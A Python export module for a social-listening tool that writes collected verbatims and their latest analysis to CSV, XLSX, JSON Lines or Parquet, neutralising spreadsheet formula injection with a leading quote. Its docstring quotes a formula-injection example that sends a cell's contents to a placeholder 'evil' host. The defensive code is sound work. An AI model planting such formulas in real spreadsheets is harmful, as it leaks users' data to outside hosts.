"""Export verbatims with their latest analysis (pandas: CSV, XLSX, JSON Lines, Parquet).

Spreadsheet exports (CSV, XLSX, and the dashboard's CSV downloads through
:func:`spreadsheet_safe`) neutralise formula injection: a text cell that begins with ``=``,
``+``, ``-``, ``@``, a tab or a carriage return gets a leading ``'``, so a collected verbatim
such as ``=HYPERLINK("http://evil/?"&A1)`` is shown as text by Excel/LibreOffice, never run.
JSON Lines and Parquet keep the text unchanged (data formats, not spreadsheets).
"""

from __future__ import annotations

import json
from pathlib import Path

import pandas as pd
from sqlalchemy import func, select

from listening.errors import ConfigError
from listening.store import Analysis, Brand, Document, Source, Store

FORMATS = ("csv", "xlsx", "jsonl", "parquet")
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
COLUMNS = [
    "id",
    "source",
    "source_kind",
    "brand",
    "external_id",
    "url",
    "thread_id",
    "author",
    "title",
    "text",
    "rating",
    "published_at",
    "collected_at",
    "language",
    "near_duplicate_of",
    "model_version",
    "sentiment",
    "sentiment_score",
    "topics",
    "intent",
    "urgency",
    "actionable",
]


def documents_frame(store: Store) -> pd.DataFrame:
    """One row per verbatim, joined with its most recent analysis (if any)."""
    latest = (
        select(Analysis.document_id, func.max(Analysis.id).label("analysis_id"))
        .group_by(Analysis.document_id)
        .subquery()
    )
    query = (
        select(
            Document.id,
            Source.name.label("source"),
            Source.kind.label("source_kind"),
            Brand.name.label("brand"),
            Document.external_id,
            Document.url,
            Document.thread_id,
            Document.author,
            Document.title,
            Document.text,
            Document.rating,
            Document.published_at,
            Document.collected_at,
            Document.language,
            Document.near_duplicate_of,
            Analysis.model_version,
            Analysis.sentiment,
            Analysis.sentiment_score,
            Analysis.topics,
            Analysis.intent,
            Analysis.urgency,
            Analysis.actionable,
        )
        .join(Source, Source.id == Document.source_id)
        .outerjoin(Brand, Brand.id == Document.brand_id)
        .outerjoin(latest, latest.c.document_id == Document.id)
        .outerjoin(Analysis, Analysis.id == latest.c.analysis_id)
        .where(Document.erased_at.is_(None))  # privacy tombstones hold no verbatim
        .order_by(Document.id)
    )
    with store.session() as session:
        rows = session.execute(query).all()
    return pd.DataFrame([tuple(r) for r in rows], columns=COLUMNS)


def neutralise(value: object) -> object:
    """``value`` with a leading ``'`` when it is text a spreadsheet would run as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        return "'" + value
    return value


def spreadsheet_safe(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells (and column names) cannot start a formula."""
    out = frame.copy()
    for col in out.columns:
        if out[col].dtype == object or pd.api.types.is_string_dtype(out[col]):
            out[col] = out[col].map(neutralise)
    out.columns = [neutralise(c) for c in out.columns]
    return out


def csv_bytes(frame: pd.DataFrame) -> bytes:
    """UTF-8 CSV of ``frame``, neutralised (the dashboard's CSV downloads)."""
    return spreadsheet_safe(frame).to_csv(index=False, lineterminator="\r\n").encode()


def export_documents(store: Store, output: Path, fmt: str) -> int:
    """Write the verbatims to ``output`` in ``fmt``; returns the row count."""
    if fmt not in FORMATS:
        raise ConfigError(f"unknown export format {fmt!r}", f"valid formats: {', '.join(FORMATS)}")
    frame = documents_frame(store)
    output.parent.mkdir(parents=True, exist_ok=True)
    if fmt in ("parquet", "csv", "xlsx"):
        # nested JSON columns become JSON strings so every tool can read them
        for col in ("topics", "urgency"):
            frame[col] = frame[col].map(
                lambda v: None if v is None else json.dumps(v, ensure_ascii=False)
            )
    if fmt == "csv":
        spreadsheet_safe(frame).to_csv(output, index=False, lineterminator="\r\n")
    elif fmt == "xlsx":
        for col in ("published_at", "collected_at"):  # Excel has no time zones: UTC, naive
            frame[col] = pd.to_datetime(frame[col], utc=True).dt.tz_localize(None)
        spreadsheet_safe(frame).to_excel(output, index=False, sheet_name="verbatims")
    elif fmt == "jsonl":
        frame.to_json(output, orient="records", lines=True, force_ascii=False, date_format="iso")
    else:
        frame.to_parquet(output, index=False)
    return len(frame)
